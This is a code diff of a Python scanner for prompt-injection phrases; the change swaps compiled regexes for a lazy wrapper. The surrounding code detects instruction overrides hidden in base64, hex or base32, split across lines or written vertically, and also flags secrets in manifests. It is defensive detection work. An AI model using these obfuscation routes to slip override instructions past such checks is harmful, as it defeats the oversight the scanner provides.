     r"|refus(?:e|es|ed|al)|reject(?:s|ed)?|block(?:s|ed)?|flag(?:s|ged)?|detect(?:s|ed|ion|or)?"
     r"|(?:prompt[\s-])?injections?|jailbreaks?|red[\s-]team|malicious|untrusted|attacks?"
@@ -1080,7 +1060,7 @@ _DEFENCE_RE = _Rule(
     # the bad example labelled as such ("Example - Vulnerable:", "an insecure prompt")
     r"|vulnerab\w*|insecure|anti-?patterns?|bad\s+examples?)\b"
 )
-_URL_RE = _Rule(r"\b[a-z][\w+.-]*://\S+|[\w.+-]+@[\w-]+\.[\w.-]+")
+_URL_RE = LazyRegex(r"\b[a-z][\w+.-]*://\S+|[\w.+-]+@[\w-]+\.[\w.-]+")
 _CONTEXT = 4  # lines either side in which a quoted example must meet its defence
 
 
@@ -1104,10 +1084,10 @@ def _fences(items: list[tuple[int, str]]) -> list[bool]:
 # Base64 long enough to carry a sentence; decoded only to be read by the phrase rules.
 # No lookbehind: a search starts where a run starts anyway, and a leading lookbehind would keep
 # the regex engine from skipping positions quickly.
-_BASE64_RE = re.compile(r"[A-Za-z0-9+/]{24,}={0,6}(?![A-Za-z0-9+/=])")
-_HEX_RE = re.compile(r"(?:[0-9a-fA-F]{2}){12,}(?![0-9a-fA-F])")
+_BASE64_RE = LazyRegex(r"[A-Za-z0-9+/]{24,}={0,6}(?![A-Za-z0-9+/=])")
+_HEX_RE = LazyRegex(r"(?:[0-9a-fA-F]{2}){12,}(?![0-9a-fA-F])")
 # Base32's alphabet is inside base64's: its blobs are among the base64 matches (padded to 8).
-_BASE32_RE = re.compile(r"[A-Z2-7]{24,}={0,6}")
+_BASE32_RE = LazyRegex(r"[A-Z2-7]{24,}={0,6}")
 
 
 def _decoded_override(text: str) -> int | None:
@@ -1142,7 +1122,7 @@ class _Possible(NamedTuple):
     tools: bool  # tool-call markup
 
 
-_ROLE_GATE_LINES = re.compile(_GATES["role-play"].pattern, re.MULTILINE)
+_ROLE_GATE_LINES = LazyRegex(_GATES["role-play"].pattern, re.MULTILINE)
 
 
 def _may_role_play(low: str) -> bool:
@@ -1199,7 +1179,7 @@ def _discussed(index: int, low: list[str], prose: str, fenced: bool) -> bool:
     """An injection phrase quoted as the bad example beside its defence."""
     quoted = fenced or low[index].lstrip().startswith(">")
     if not quoted:
-        unquoted = _MARKUP_RE.sub(" ", _QUOTED_SPAN_RE.rx.sub(" ", low[index]))
+        unquoted = _MARKUP_RE.sub(" ", _QUOTED_SPAN_RE.sub(" ", low[index]))
         quoted = _injects(prose) and not _injects(unquoted)
     if not quoted:
         return False
@@ -1216,16 +1196,16 @@ def _defended(index: int, low: list[str]) -> bool:
     # A host name is no defence: `https://drop.attacker.test` names the attacker, it does not
     # warn against them.
     if "://" in window or "@" in window:
-        window = _URL_RE.rx.sub(" ", window)
-    return bool(_DEFENCE_RE.rx.search(window))
+        window = _URL_RE.sub(" ", window)
+    return bool(_DEFENCE_RE.search(window))
 
 
 def _quoted_example(index: int, low: list[str], hit: Callable[[str], object]) -> bool:
     """A hit that lies only inside quotes or inline code, beside its defence: the bad example a
     review note or a sanitiser's marker list quotes (a fence alone hides nothing)."""
-    if not _QUOTED_SPAN_RE.rx.search(low[index]):
+    if not _QUOTED_SPAN_RE.search(low[index]):
         return False
-    return not hit(_QUOTED_SPAN_RE.rx.sub(" ", low[index])) and _defended(index, low)
+    return not hit(_QUOTED_SPAN_RE.sub(" ", low[index])) and _defended(index, low)
 
 
 def _vertical_runs(raw: list[str]) -> list[tuple[int, str]]:
@@ -1374,14 +1354,14 @@ def scan(lines: Iterable[tuple[int, str]], allow: Collection[str] = ()) -> ScanR
                 next_skel += skeletons[index + 2][:_SEAM]
             joined = head_skel + next_skel
             if ((number, "injection") not in found and checks.skeleton and may_override(joined)
-                    and _SKELETON_RE.rx.search(joined)
-                    and not _SKELETON_RE.rx.search(head_skel)
-                    and not _SKELETON_RE.rx.search(next_skel)):
+                    and _SKELETON_RE.search(joined)
+                    and not _SKELETON_RE.search(head_skel)
+                    and not _SKELETON_RE.search(next_skel)):
                 add(number, "injection", (0, "obfuscated instruction override"))
 
     raw = [text for _, text in items]
     for first, letters in _vertical_runs(raw):
-        if _SKELETON_RE.rx.search(skeleton(_fold(letters))):
+        if _SKELETON_RE.search(skeleton(_fold(letters))):
             add(items[first][0], "injection", (0, "obfuscated instruction override"))
     if any("kind:" in text for text in raw):
         for index, col, detail in manifest_secrets(raw):
